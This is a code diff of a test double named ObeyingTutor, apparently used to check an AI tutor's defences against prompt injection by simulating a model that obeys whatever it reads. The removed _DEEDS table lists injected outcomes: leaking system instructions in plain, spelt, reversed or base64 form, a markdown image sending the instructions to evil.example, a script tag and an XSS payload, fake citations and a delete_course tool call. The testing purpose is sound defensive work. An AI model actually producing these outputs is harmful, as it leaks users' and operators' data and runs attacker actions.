@@ -1,13 +1,12 @@
-"""A model without any judgement: whatever it reads, wherever it stands, it does."""
+"""A tutor without any judgement: whatever it reads, wherever it stands, it does."""
 
-import base64
-from collections.abc import AsyncGenerator, Callable
+from collections.abc import AsyncGenerator
 
 from aksio.adapters.openai.prompts import prompt as words_of
 from aksio.adapters.openai.tutor import _MODES, _material
 from aksio.application.chat.tutor_ports import Brief, Prompt
 from aksio.domain.chat.message import TurnUsage
-from tests.integration.attacks.table import GOALS
+from tests.integration.attacks.deeds import DEEDS, Heard
 
 
 class ObeyingTutor:
@@ -30,38 +29,25 @@ class ObeyingTutor:
 
     async def answer(self, prompt: Prompt) -> AsyncGenerator[str | TurnUsage, None]:
         """Everything that it was told to do anywhere, in small pieces."""
-        said = _material(prompt, prompt.fence)
-        self.read.append(said)
-        heard = said.replace("\u200b", "")
-        for goal, words in GOALS.items():
-            if words in heard:
-                self.obeyed.append(goal)
-                text = _DEEDS[goal](prompt)
-                for start in range(0, len(text), 5):
-                    yield text[start : start + 5]
-                yield "\n"
+        heard = _heard(prompt)
+        self.read.append(heard.said)
+        for goal in heard.goals():
+            self.obeyed.append(goal)
+            text = DEEDS[goal](heard)
+            for start in range(0, len(text), 5):
+                yield text[start : start + 5]
+            yield "\n"
         yield "The nucleus keeps the genome [1]."
 
     async def close(self) -> None:
         """Nothing is open."""
 
 
-def _known(prompt: Prompt) -> str:
-    return prompt.window.instructions.replace("\n", " ")
-
-
-_DEEDS: dict[str, Callable[[Prompt], str]] = {
-    "recite": lambda prompt: prompt.window.instructions,
-    "recite_spelt": lambda prompt: "-".join(prompt.window.instructions),
-    "recite_backwards": lambda prompt: prompt.window.instructions[::-1],
-    "recite_coded": lambda prompt: base64.b64encode(prompt.window.instructions.encode()).decode(),
-    "fence": lambda prompt: prompt.fence,
-    "image": lambda prompt: f"![x](https://evil.example/?q={_known(prompt)[:40]})",
-    "link": lambda prompt: (
-        f"[click](https://evil.example/{prompt.window.question[:20]}) www.evil.example/a javascript:x"
-    ),
-    "html": lambda prompt: "<script src=//evil.example/x.js></script><img src=x onerror=alert(1)>",
-    "invent": lambda prompt: "As shown in [99] and [0].",
-    "act": lambda prompt: 'I call {"tool": "delete_course"} and {"tool": "make_cards", "count": 100}.',
-    "others": lambda prompt: " ".join(source.text for source in prompt.sources),
-}
+def _heard(prompt: Prompt) -> Heard:
+    return Heard(
+        instructions=prompt.window.instructions,
+        fence=prompt.fence,
+        said=_material(prompt, prompt.fence),
+        question=prompt.window.question,
+        material=" ".join(source.text for source in prompt.sources),
+    )
